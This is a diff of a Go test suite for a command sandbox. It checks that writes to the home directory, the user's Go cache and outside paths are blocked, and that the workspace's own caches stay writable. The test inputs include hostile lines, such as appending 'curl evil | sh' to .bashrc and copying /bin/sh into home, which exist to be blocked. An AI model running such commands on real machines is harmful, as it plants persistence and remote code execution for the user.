@@ -58,6 +58,7 @@ func TestSandboxWrites(t *testing.T) {
 		"mkdir " + home + "/.ssh",
 		"echo 'curl evil | sh' >> " + home + "/.bashrc",
 		"cp /bin/sh " + home + "/sh",
+		"mkdir -p " + gocache + "/ab", // the user's cache: a poisoned entry would run outside
 	} {
 		r := f.bash(command)
 		c := f.terminal(command, r)
@@ -78,14 +79,14 @@ func TestSandboxWrites(t *testing.T) {
 		t.Errorf("outside holds %d entries, want only the victim", len(entries))
 	}
 	homeEntries, _ := os.ReadDir(home)
-	if len(homeEntries) != 0 {
+	if len(homeEntries) != 1 || homeEntries[0].Name() != ".cache" { // the workspace's own caches
 		t.Errorf("home holds %v", homeEntries)
 	}
 
 	for _, command := range []string{
 		"echo x > inws && mkdir -p d/e && mv inws d/e/ && rm -r d",
 		"echo x > " + tmp + "/f && rm " + tmp + "/f",
-		"mkdir -p " + gocache + "/ab && echo x > " + gocache + "/ab/f",
+		"mkdir -p $GOCACHE/ab && echo x > $GOCACHE/ab/f", // the workspace's own
 		"echo x > /dev/null && cat " + victim + " >/dev/null",
 		"ls / >/dev/null && cat /etc/hostname >/dev/null",
 	} {
@@ -107,7 +108,7 @@ func TestSandboxJobs(t *testing.T) {
 	f := newFixture(t, Options{Sandbox: sandbox.On})
 	id := f.startJob("echo x > " + outside + "/job; echo status=$?")
 	out := f.jobOutput(id, 10_000)
-	mustContain(t, out, "Permission denied")
+	mustContain(t, out, "Read-only file system")
 	mustContain(t, out, "status=1")
 	if _, err := os.Stat(filepath.Join(outside, "job")); err == nil {
 		t.Error("a sandboxed job wrote outside")
@@ -173,7 +174,8 @@ func TestSandboxNetwork(t *testing.T) {
 	}
 }
 
-// TestSandboxGoBuild: a Go build works sandboxed, with the user's real caches.
+// TestSandboxGoBuild: a Go build works sandboxed, with the workspace's own
+// caches.
 func TestSandboxGoBuild(t *testing.T) {
 	needSandbox(t, sandbox.On)
 	if testing.Short() {
